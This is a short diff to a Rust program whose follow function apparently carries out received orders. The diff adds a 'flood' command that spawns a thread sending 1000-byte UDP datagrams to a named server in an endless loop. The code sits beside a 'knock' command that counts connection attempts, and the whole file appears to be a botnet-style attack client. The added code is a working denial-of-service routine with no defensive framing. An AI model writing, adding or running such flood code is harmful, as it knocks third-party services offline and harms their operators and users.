@@ -129,6 +129,17 @@ fn follow(order: &str, held: &mut Vec<TcpStream>) -> io::Result<String> {
             });
             Ok(answered.count().to_string())
         }
+        // Datagrams, as many as there can be, for as long as the pack is there.
+        ["flood", server] => {
+            let socket = datagrams_to(server)?;
+            thread::spawn(move || {
+                loop {
+                    // It may be closed for a while.
+                    let _ = socket.send(&[1; 1000]);
+                }
+            });
+            Ok("begun".to_owned())
+        }
         // How many begin to connect, whether or not anybody answers.
         ["knock", server, count] => {
             let server: SocketAddr = server.parse().map_err(io::Error::other)?;
